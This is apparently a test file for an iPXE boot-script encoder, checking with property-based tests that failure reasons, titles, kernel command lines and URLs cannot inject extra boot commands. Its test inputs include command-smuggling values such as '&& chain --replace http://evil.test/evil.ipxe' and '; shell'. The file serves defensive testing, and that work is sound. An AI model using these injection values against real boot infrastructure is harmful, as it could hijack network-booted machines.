import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { hostileText } from './hostile-text.fixture.js';
import { expandsInIpxe, parseIpxeScript, type IpxeLine } from './parse-script.js';
import {
  formatChainScript,
  formatKernelScript,
  formatLocalBootScript,
  formatWaitScript,
  ipxeArgs,
  ipxeText,
  IpxeScriptError,
} from './script.js';

const retry = {
  url: 'http://10.9.0.1:8080/boot/host.ipxe?mac=52%3A54%3A00%3A12%3A34%3A56&platform=pcbios&arch=x86_64',
  delaySeconds: 10,
};

/** The shape of a parsed script with the echo arguments of line `echoLine` removed. */
const shape = (lines: IpxeLine[], echoLine: number) =>
  lines.map((l, i) =>
    i === echoLine ? { ...l, commands: l.commands.map((c) => ({ ...c, argv: c.argv.slice(0, 2) })) } : l,
  );

describe('iPXE script encoding', () => {
  it('a failure reason with "&& chain …" stays words of the echo: no second command, nothing chained but the retry URL', () => {
    const s = formatWaitScript('disk error && chain --replace http://evil.test/evil.ipxe', retry);
    const lines = parseIpxeScript(s);
    assert.deepEqual(lines[1], {
      label: null,
      comment: null,
      commands: [
        {
          argv: ['echo', 'Kiln:', 'disk', 'error', "'&&'", 'chain', '--replace', 'http://evil.test/evil.ipxe'],
          then: null,
        },
      ],
    });
    const chained = lines
      .flatMap((l) => l.commands)
      .filter((c) => c.argv[0] === 'chain')
      .map((c) => c.argv.at(-1));
    assert.deepEqual(chained, [retry.url]);
  });

  it('ipxeText keeps ordinary prose as it is and marks what iPXE would read', () => {
    assert.equal(ipxeText('node-1 failed at install: disk not found'), 'node-1 failed at install: disk not found');
    assert.equal(ipxeText('a || b ; c #d ${x} e\\'), "a '||' b ';' c '#d' $ {x} 'e\\'");
    assert.equal(ipxeText('line\nbreak\r\nand\ttab'), 'line break and tab');
  });

  it('property: any text becomes only literal words of one echo command (separators, comments, ${}, continuations, control characters)', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const lines = parseIpxeScript(`echo Kiln: ${ipxeText(text)}\ngoto failed\n`);
        assert.equal(lines.length, 2);
        assert.equal(lines[0].comment, null);
        assert.equal(lines[0].label, null);
        assert.equal(lines[0].commands.length, 1);
        const [cmd] = lines[0].commands;
        assert.equal(cmd.then, null);
        assert.deepEqual(cmd.argv.slice(0, 2), ['echo', 'Kiln:']);
        for (const w of cmd.argv)
          assert.ok(!expandsInIpxe(w) && !w.includes('${'), `word ${JSON.stringify(w)} would expand`);
        assert.deepEqual(lines[1].commands, [{ argv: ['goto', 'failed'], then: null }]);
      }),
      { numRuns: 2000 },
    );
  });

  it('property: a wait script for any reason has exactly the commands of a harmless one', () => {
    const expected = shape(parseIpxeScript(formatWaitScript('x', retry)), 1);
    fc.assert(
      fc.property(hostileText, (reason) => {
        assert.deepEqual(shape(parseIpxeScript(formatWaitScript(reason, retry)), 1), expected);
      }),
      { numRuns: 2000 },
    );
  });

  it('property: ipxeArgs passes a value only when iPXE reads it as exactly its words', () => {
    fc.assert(
      fc.property(hostileText, (value) => {
        let ok: string;
        try {
          ok = ipxeArgs('v', value);
        } catch (err) {
          assert.ok(err instanceof IpxeScriptError);
          return;
        }
        const lines = parseIpxeScript(`kernel http://k/linux ${ok} || goto failed\n`);
        assert.equal(lines.length, 1);
        assert.equal(lines[0].comment, null);
        assert.deepEqual(lines[0].commands, [
          { argv: ['kernel', 'http://k/linux', ...ok.split(' ').filter(Boolean)], then: '||' },
          { argv: ['goto', 'failed'], then: null },
        ]);
        for (const w of lines[0].commands[0].argv) assert.ok(!w.includes('${'));
      }),
      { numRuns: 2000 },
    );
  });

  it('property: a kernel script either refuses a value or boots exactly that kernel, initrd and command line', () => {
    fc.assert(
      fc.property(
        hostileText,
        hostileText,
        hostileText,
        fc.oneof(fc.constant('http://m/linux'), hostileText),
        (title, cmdline, initrdName, kernel) => {
          let s: string;
          try {
            s = formatKernelScript(
              title,
              { kernel, initrds: [{ url: 'http://m/initrd.gz', name: initrdName }], cmdline },
              retry,
            );
          } catch (err) {
            assert.ok(err instanceof IpxeScriptError);
            return;
          }
          const lines = parseIpxeScript(s);
          const words = cmdline.split(' ').filter(Boolean);
          assert.equal(lines.length, 9);
          assert.deepEqual(lines[2].commands, [
            { argv: ['kernel', kernel, `initrd=${initrdName}`, ...words], then: '||' },
            { argv: ['goto', 'failed'], then: null },
          ]);
          assert.deepEqual(lines[3].commands, [
            { argv: ['initrd', '--name', initrdName, 'http://m/initrd.gz'], then: '||' },
            { argv: ['goto', 'failed'], then: null },
          ]);
          assert.deepEqual(
            shape(lines, 1).map((l) => l.commands.map((c) => c.argv[0])),
            [
              [],
              ['echo'],
              ['kernel', 'goto'],
              ['initrd', 'goto'],
              ['boot', 'goto'],
              [],
              ['echo'],
              ['sleep'],
              ['chain', 'goto'],
            ],
          );
          for (const w of lines.flatMap((l) => l.commands.flatMap((c) => c.argv))) assert.ok(!w.includes('${'));
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('local-boot and chain scripts encode their title and check their URL', () => {
    const lines = parseIpxeScript(formatLocalBootScript('x && shell', 'pcbios'));
    assert.deepEqual(lines[1].commands, [{ argv: ['echo', 'Kiln:', 'x', "'&&'", 'shell'], then: null }]);
    assert.throws(() => formatChainScript('http://a/b ; shell', 5), IpxeScriptError);
    assert.throws(() => formatWaitScript('x', { url: 'http://a/b && shell', delaySeconds: 5 }), IpxeScriptError);
  });
});
